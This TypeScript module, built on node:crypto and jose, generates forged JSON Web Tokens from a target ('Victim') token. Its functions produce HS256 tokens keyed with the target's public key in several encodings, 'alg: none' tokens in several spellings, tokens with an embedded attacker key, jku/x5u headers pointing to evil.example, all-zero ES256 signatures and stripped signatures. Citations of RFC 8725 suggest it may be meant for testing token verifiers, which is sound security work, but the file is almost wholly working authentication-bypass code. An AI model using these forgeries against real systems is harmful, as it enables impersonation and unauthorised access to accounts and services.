import { createHmac, createPublicKey, hash } from 'node:crypto';
import { base64url, exportJWK, generateKeyPair, type JWK, type JWTPayload, SignJWT } from 'jose';

export interface Victim {
  /** Of what signs a good one. */
  header: { alg: string; kid?: string; typ?: string };
  claims: JWTPayload;
  /** What everybody knows: the public keys a good one is verified with. */
  publicKeys: JWK[];
  /** What is no secret either, although it belongs to the client. */
  known?: string[];
  /** Signature of a good one with the same claims. */
  signature: string;
}

type Forgeries = [name: string, token: string][];

const encode = (part: object) => base64url.encode(JSON.stringify(part));

function compact(header: object, claims: JWTPayload, sign: (content: string) => string): string {
  const content = `${encode(header)}.${encode(claims)}`;
  return `${content}.${sign(content)}`;
}

/** Every form in which a public key could be taken for the bytes of a secret (RFC 8725 section 2.1). */
function bytesOf(jwk: JWK): [string, string | Buffer][] {
  const key = createPublicKey({ key: jwk, format: 'jwk' });
  const pem = key.export({ type: 'spki', format: 'pem' }).toString();
  return [
    ['JWK', JSON.stringify(jwk)],
    ['PEM', pem],
    ['PEM without the last line feed', pem.trimEnd()],
    ['DER', key.export({ type: 'spki', format: 'der' })],
  ];
}

/** HS256 with what anybody can know: a public key, nothing at all, or a digest from a stolen copy of the database. */
export function symmetric({ header, claims, publicKeys, known = [] }: Victim): Forgeries {
  const publics = publicKeys.flatMap(jwk =>
    bytesOf(jwk).map(([form, bytes]): [string, string | Buffer] => [`${form} of ${jwk.kty}`, bytes]),
  );
  const others = known.flatMap((value): [string, string][] => [
    ['what belongs to the client', value],
    ['its digest', hash('sha256', value, 'base64url')],
  ]);
  const { kid: _, ...unnamed } = header;
  return [['nothing', ''] as [string, string], ...others, ...publics].flatMap(([name, bytes]): Forgeries => {
    const sign = (content: string) => createHmac('sha256', bytes).update(content).digest('base64url');
    return [
      [`${name}, naming the key`, compact({ ...header, alg: 'HS256' }, claims, sign)],
      [name, compact({ ...unnamed, alg: 'HS256' }, claims, sign)],
    ];
  });
}

/** RFC 8725 section 3.2, in every spelling, with and without the bytes of another signature. */
export function unsigned({ header, claims, signature }: Victim): Forgeries {
  return ['none', 'None', 'NONE', 'nOnE', ''].flatMap(
    (alg): Forgeries => [
      [`alg ${alg}`, compact({ ...header, alg }, claims, () => '')],
      [`alg ${alg} with a signature`, compact({ ...header, alg }, claims, () => signature)],
    ],
  );
}

/** A good signature of a key that comes with it, and signatures that are none although the algorithm is right. */
export async function ownKey({ header, claims }: Victim): Promise<Forgeries> {
  const { publicKey, privateKey } = await generateKeyPair('ES256');
  const jwk = await exportJWK(publicKey);
  const { kid: _, ...unnamed } = header;
  const signed = (extra: object) =>
    new SignJWT(claims).setProtectedHeader({ ...header, ...extra, alg: 'ES256' }).sign(privateKey);
  return [
    ['key in the header', await signed({ jwk })],
    ['key in the header, of the same name', await signed({ jwk: { ...jwk, kid: header.kid } })],
    ['keys at an address in the header', await signed({ jku: 'https://evil.example/jwks' })],
    ['certificate at an address in the header', await signed({ x5u: 'https://evil.example/x5u' })],
    ['ES256 of zeros', compact({ ...header, alg: 'ES256' }, claims, () => 'A'.repeat(86))],
    ['ES256 of zeros, of no key', compact({ ...unnamed, alg: 'ES256' }, claims, () => 'A'.repeat(86))],
    ['no signature', compact(header, claims, () => '')],
  ];
}
